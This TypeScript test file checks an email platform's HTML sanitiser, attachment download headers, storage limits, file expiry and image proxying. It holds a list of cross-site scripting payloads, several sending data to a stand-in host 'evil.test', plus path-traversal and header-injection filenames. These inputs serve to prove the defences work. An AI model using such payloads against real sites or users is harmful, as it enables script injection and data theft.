import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import test from 'ava';
import { safeHtml } from '../../../domain/mail/inbound/safe-html.ts';
import { transact } from '../../../domain/platform/kernel/transact.ts';
import { addDeadLetter, FAILED_DIRECT_EMAIL, UNCERTAIN_EMAIL } from '../../../domain/platform/dead-letters.ts';
import { expireFiles } from '../../../domain/inbox/threads/retention.ts';
import { DAY_MS } from '../../../lib/clock.ts';
import { newId } from '../../../lib/ids.ts';
import { maskOf } from '../../../lib/permissions.ts';
import { createApiKey, createContact, createMailbox } from '../../../test/harness/factories.ts';
import { filePart, multipartMessage, openInbox } from '../../../test/harness/inbox-desk.ts';
import { assertStatus, call, createWorld, type World } from '../../../test/harness/world.ts';
import { externalText } from '../../../domain/platform/external-text.ts';

let world: World;
test.before(async () => {
  world = await createWorld({ env: { ORG_RECEIVED_BYTES: String(64 * 1024) } });
});
test.after.always(() => world?.close());

async function desk() {
  const inbox = await openInbox(world);
  const { apiKey } = inbox.tenant;
  return {
    ...inbox,
    /** Records a received message with these MIME parts and returns its id. */
    receive: (parts: readonly string[], from?: string) => inbox.receive(multipartMessage(inbox.email, parts, from)),
    /** Downloads a file, and returns status, headers and bytes. */
    async download(path: string, token = apiKey) {
      const answer = await fetch(`${world.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
      return { status: answer.status, headers: answer.headers, bytes: Buffer.from(await answer.arrayBuffer()) };
    },
  };
}

const html = (source: string) => `Content-Type: text/html; charset=utf-8\r\n\r\n${source}`;

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:part1"><img src="https://evil.test/pixel.gif?who=lea" srcset="https://evil.test/2x 2x">',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">y</a><a href="data:text/html,<script>alert(1)</script>">z</a>',
  '<a href="//evil.test" onclick="alert(1)" style="position:fixed;inset:0" class="modal" id="app">x</a>',
  '<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x"><base href="https://evil.test/">',
  '<form action="https://evil.test"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<style>@import "https://evil.test/x.css"; body{background:url(https://evil.test)}</style><link rel=stylesheet href=https://evil.test>',
  '<div style="background:url(https://evil.test/read)">x</div><table background="https://evil.test"><td background="x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><video src="https://evil.test" autoplay></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><?xml version="1.0"?><![CDATA[<script>alert(1)</script>]]>',
  '<<script>script>alert(1)<</script>/script><p/onmouseover=alert(1)>',
];

test('nothing in the HTML of a stranger acts, loads, or looks like the page around it', (t) => {
  for (const source of HOSTILE) {
    const safe = safeHtml(source);
    for (const [, tag] of safe.matchAll(/<\/?([a-z0-9]*)/gi))
      t.regex(tag!, /^(a|img|span|div|p|table|tbody|tr|td|b)$/, `${source} -> ${safe}`);
    for (const [, name, value] of safe.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)) {
      t.regex(name!, /^(href|target|rel|alt|data-src)$/, `${source} -> ${safe}`);
      if (name === 'data-src') t.regex(value!, /^https?:/, source);
      if (name === 'href') t.regex(value!, /^(https?|mailto|tel):/, source);
    }
    t.is(safeHtml(safe), safe, 'made safe once, it stays as it is');
  }
  t.is(
    safeHtml('<p>Hi <b>Sam</b>, <a href="https://x.test/?a=1&amp;b=2">look</a></p><img src="cid:logo" alt="Our logo">'),
    '<p>Hi <b>Sam</b>, <a href="https://x.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">look</a></p><span>[Our logo]</span>',
  );
  t.is(
    safeHtml(
      '<img src="https://x.test/a.png?a=1&amp;b=2" alt="Shop" style="x"><img src="https://x.test/p.gif" width="1" height=1>',
    ),
    '<img alt="Shop" data-src="https://x.test/a.png?a=1&amp;b=2" /><span></span>',
  );
});

test('HTML made to cost much costs little', (t) => {
  for (const piece of ['<b>', '<table><tr><td>', '<a href="', '<!--', '&#', '<p a=', '</p>', '<svg><math>']) {
    const safe = safeHtml(piece.repeat(Math.ceil((256 * 1024) / piece.length)));
    t.true(safe.length < 512 * 1024, piece);
  }
});

test('a message in HTML is read as safe HTML, in its conversation and by itself', async (t) => {
  const { receive, get, tenant } = await desk();
  const id = await receive([html('<p>Dear <b>Sam</b><script>alert(1)</script></p>')]);
  const { status, body } = await get(`/${id}`);
  t.is(status, 200);
  t.like(body, {
    id,
    subject: 'Parts',
    from: ['lea@lead.test'],
    body_html: '<p>Dear <b>Sam</b></p>',
    body_truncated: false,
  });
  const thread = await get(`/thread?thread_id=${encodeURIComponent(body.thread_id)}`);
  t.is(thread.body.data[0].body_html, body.body_html);
  const other = await desk();
  for (const path of [`/${id}`, '/nonsense', `/${newId()}`]) t.is((await other.get(path)).status, 404, path);
  const second = await createMailbox(world.deps, other.tenant.organizationId, 'b@ours.test');
  const { apiKey } = await createApiKey(world.deps, other.tenant.organizationId, other.tenant.userId, {
    permissions: maskOf(['READ_UNIBOX']),
    allowedMailboxes: [second],
  });
  const theirs = await other.receive([html('x'), filePart('a.pdf', 'secret')]);
  const theirFile = (await other.get(`/${theirs}`)).body.attachments[0].url;
  t.is((await other.get(`/${theirs}`, apiKey)).status, 404, 'a mailbox the key may not use');
  assertStatus(t, await call(world, 'GET', theirFile, { token: apiKey }), 404);
  assertStatus(t, await call(world, 'GET', theirFile, { token: tenant.apiKey }), 404);
});

test('files come as downloads that nobody shows, under names that change no header', async (t) => {
  const { receive, get, download } = await desk();
  const names = [
    'plan.html',
    '../../etc/passwd',
    'a"; filename="b.exe',
    'x\u202Efdp.exe',
    '=?utf-8?Q?a=0D=0ASet-Cookie:_x=3D1?=',
    'Ünïcode 漢字.pdf',
    '.',
    '',
  ];
  const id = await receive([
    'Content-Type: text/plain\r\n\r\nSee the files.',
    ...names.map((name) => filePart(name, '<script>alert(1)</script>', 'text/html')),
  ]);
  const { attachments } = (await get(`/${id}`)).body;
  t.is(attachments.length, names.length);
  for (const { url, filename, left_out } of attachments) {
    t.is(left_out, null);
    t.notRegex(filename, /[/\\"<>\p{Cc}\p{Cf}]/u);
    const { status, headers, bytes } = await download(url);
    t.is(status, 200);
    t.is(bytes.toString(), '<script>alert(1)</script>');
    t.is(headers.get('content-type'), 'application/octet-stream');
    t.is(headers.get('x-content-type-options'), 'nosniff');
    t.regex(headers.get('content-security-policy')!, /sandbox/);
    t.regex(headers.get('content-disposition')!, /^attachment; filename="[\w.() -]+"; filename\*=UTF-8''[\w.%~!-]+$/);
    t.is(headers.get('set-cookie'), null);
  }
  for (const place of [newId(), '0', 'a', '1;drop'])
    t.is((await get(`/${id}/attachments/${encodeURIComponent(place)}`)).status, 404, place);
});

test('what is too much is listed without its bytes; strangers take no room of ours', async (t) => {
  const { receive, get, tenant, mailboxId } = await desk();
  const id = await receive([
    filePart('large.bin', Buffer.alloc(60 * 1024, 1)),
    filePart('next.bin', Buffer.alloc(8 * 1024, 2)),
    filePart('small.bin', 'x'),
  ]);
  const { attachments } = (await get(`/${id}`)).body;
  t.deepEqual(
    attachments.map(({ filename, left_out, size_bytes }: Record<string, unknown>) => [filename, left_out, size_bytes]),
    [
      ['large.bin', null, 60 * 1024],
      ['next.bin', 'no_space', 8 * 1024],
      ['small.bin', null, 1],
    ],
  );
  t.is(attachments[1].url, null);
  assertStatus(t, await get(`/${id}/attachments/${await fileOf(id, 1)}`), 404);
  const many = await receive(Array.from({ length: 60 }, (_, index) => filePart(`f${index}`, '')));
  t.is((await get(`/${many}`)).body.attachments.length, 25);
  const nested = await receive([
    `Content-Type: multipart/mixed; boundary="b0"\r\n\r\n${Array.from({ length: 300 }, (_, depth) => `--b${depth}\r\nContent-Type: multipart/mixed; boundary="b${depth + 1}"\r\n\r\n`).join('')}--b300\r\n\r\nDeep`,
  ]);
  t.is((await get(`/${nested}`)).status, 200, 'parts within parts within parts');
  t.is(await blobs(tenant.organizationId), 2);
  assertStatus(t, await call(world, 'DELETE', `/v1/emails/${mailboxId}`, { token: tenant.apiKey }), 204);
  t.is(await blobs(tenant.organizationId), 0, 'they go with their mailbox');
});

const fileOf = async (message: string, place: number): Promise<string> =>
  (await world.deps.db('inbound_attachments').where({ message_id: message, place }).first('id')).id;

const blobs = async (organizationId: string): Promise<number> =>
  (await world.deps.db('blobs').where({ organization_id: organizationId })).length;

test.serial('an email whose files were deleted is not sent again without them', async (t) => {
  const { tenant, mailboxId } = await desk();
  const { db, clock } = world.deps;
  const ask = (method: 'GET' | 'POST', path: string, body?: object) =>
    call(world, method, `/v1${path}`, { token: tenant.sessionToken, ...(body ? { body } : {}) });
  for (const [state, type] of [
    ['failed', 'direct_email'],
    ['uncertain', 'uncertain_email'],
  ] as const) {
    const { body: accepted } = await ask('POST', '/unibox/compose', {
      email_account_id: mailboxId,
      to: ['lea@else.test'],
      subject: 'The offer',
      body_plain: 'See the file.',
      attachments: [{ filename: 'offer.txt', content_type: 'text/plain', content: 'T2ZmZXI=' }],
    });
    const id: string = accepted.task_id;
    const finished = new Date(clock.now().getTime() - 366 * DAY_MS);
    await db('direct_sends').where({ id }).update({ state, finished_at: finished });
    await db('sends').where({ id }).update({ state });
    await transact(world.system(tenant.organizationId), (tx) =>
      addDeadLetter(tx, {
        taskId: id,
        taskType: type === 'direct_email' ? FAILED_DIRECT_EMAIL : UNCERTAIN_EMAIL,
        payload: {},
        error: externalText('no answer'),
        attempts: 1,
        maxAttempts: 5,
        nextRetryAt: null,
      }),
    );
    t.is(await expireFiles(world.deps), 1);
    const { body } = await ask('GET', '/tasks/dlq?status=pending');
    const letter = body.data.find(({ task_id }: { task_id: string }) => task_id === id);
    const refused = await ask('POST', `/tasks/dlq/${letter.id}/replay`, {});
    t.deepEqual([refused.status, refused.body.code], [409, 'attachments_expired']);
    t.like(await db('direct_sends').where({ id }).first(), { state });
    t.like(await db('dead_letters').where({ id: letter.id }).first(), { status: 'pending' });
  }
});

test.serial('files are deleted after their time, with their contact, and with their workspace', async (t) => {
  const { receive, get, tenant } = await desk();
  const { db } = world.deps;
  const contactId = await createContact(db, world.deps.clock.now(), tenant.organizationId, { email: 'kim@lead.test' });
  const old = await receive([filePart('old.pdf', 'old')]);
  const fresh = await receive([filePart('fresh.pdf', 'fresh')]);
  const theirs = await receive([html('<p>Mine</p>'), filePart('theirs.pdf', 'theirs')], 'kim@lead.test');
  await db('inbound_attachments')
    .where({ message_id: old })
    .update({ created_at: new Date(world.deps.clock.now().getTime() - 366 * DAY_MS) });
  t.is(await expireFiles(world.deps), 1);
  t.is(await expireFiles(world.deps), 0);
  t.like((await get(`/${old}`)).body.attachments[0], { filename: 'old.pdf', url: null, left_out: 'expired' });
  t.not((await get(`/${fresh}`)).body.attachments[0].url, null);
  t.is(await blobs(tenant.organizationId), 2);
  assertStatus(t, await call(world, 'DELETE', `/v1/contacts/${contactId}`, { token: tenant.apiKey }), 204);
  const erased = (await get(`/${theirs}`)).body;
  t.deepEqual(erased.attachments, []);
  t.is(erased.body_html, undefined);
  t.is(await blobs(tenant.organizationId), 1);
  await db('organizations').where({ id: tenant.organizationId }).delete();
  t.is(await blobs(tenant.organizationId), 0);
});

/** Returns the first bytes of a PNG whose header declares the given size. */
function pngOf(width: number, height: number): Buffer {
  const bytes = Buffer.from('89504e470d0a1a0a0000000d49484452000000000000000008', 'hex');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

test('images of a message are fetched when they are asked for: those that are images, wherever they lead', async (t) => {
  const { receive, get } = await desk();
  const asked: string[] = [];
  const [png, wide, vast] = [pngOf(1, 1), pngOf(7_000, 7_000), pngOf(65_535, 65_535)];
  const server = createServer((request, response) => {
    asked.push(request.url!);
    if (request.url === '/moved') response.writeHead(302, { location: '/a.png?x=1&y=2' }).end();
    else if (request.url === '/round') response.writeHead(302, { location: '/round' }).end();
    else if (request.url!.startsWith('/a.png')) response.end(png);
    else if (request.url === '/vast') response.end(vast);
    else if (request.url!.startsWith('/wide')) response.end(wide);
    else if (request.url === '/large') response.end(Buffer.concat([png, Buffer.alloc(1024 * 1024)]));
    else response.writeHead(200, { 'content-type': 'image/png' }).end('<svg onload="alert(1)"></svg>');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.teardown(() => server.close());
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const names = [
    '/a.png?x=1&amp;y=2',
    '/moved',
    '/round',
    '/large',
    '/page.svg',
    '/a.png?x=1&amp;y=2',
    '/vast',
    '/wide/1',
    '/wide/2',
  ];
  const id = await receive([
    html(
      `data-src="${base}/words" ${names.map((name) => `<img src="${base}${name}" alt="One">`).join('')}<img src="http://[">`,
    ),
  ]);
  t.regex((await get(`/${id}`)).body.body_html, /<img alt="One" data-src="/);
  t.deepEqual(asked, [], 'nobody has asked for them');
  const { status, body } = await get(`/${id}/images`);
  t.is(status, 200);
  const image = { content_type: 'image/png', content: png.toString('base64') };
  const isWide = ({ src }: { src: string }) => src.includes('/wide/');
  t.is(body.data.filter(isWide).length, 1, 'as many as the pixels of all together allow');
  t.deepEqual(
    body.data.filter((one: { src: string }) => !isWide(one)),
    [
      { src: `${base}/a.png?x=1&y=2`, ...image },
      { src: `${base}/moved`, ...image },
    ],
    'and nothing that a few bytes make vast',
  );
  t.false(asked.includes('/words'), 'what only looks like an image is not asked for');
  t.is(asked.filter((url) => url === '/round').length, 4);
  assertStatus(t, await get(`/${newId()}/images`), 404);
  assertStatus(t, await get(`/${id}/images`, (await desk()).tenant.apiKey), 404);
});

test('images of a message are so many that an answer fits into memory, and few messages at once', async (t) => {
  const { receive, get, tenant } = await desk();
  const png = Buffer.concat([pngOf(1, 1), Buffer.alloc(1024 * 1024 - 25)]);
  let answer = (): void => {};
  const held = new Promise<void>((resolve) => (answer = resolve));
  const server = createServer((request, response) => {
    if (request.url === '/late') void held.then(() => response.end(png));
    else response.end(png);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.teardown(() => server.close());
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const many = await receive([
    html(Array.from({ length: 12 }, (_unused, n) => `<img src="${base}/${n}" alt="One">`).join('')),
  ]);
  t.is((await get(`/${many}/images`)).body.data.length, 8);
  const late = await receive([html(`<img src="${base}/late" alt="One">`)]);
  const asked = Array.from({ length: 60 }, () => get(`/${late}/images`));
  const other = await desk();
  const theirs = await other.receive([html(`<img src="${base}/1" alt="One">`)]);
  t.is((await other.get(`/${theirs}/images`)).body.data.length, 1, 'another workspace does not wait for it');
  // Delays the answer until one request has given up waiting, because on a fast machine all would be served in time.
  await Promise.race(asked.map(async (one) => (await one).status === 429 || (await Promise.all(asked))));
  answer();
  const statuses = (await Promise.all(asked)).map(({ status }) => status);
  t.deepEqual([...new Set(statuses)].toSorted(), [200, 429], tenant.organizationId);
});
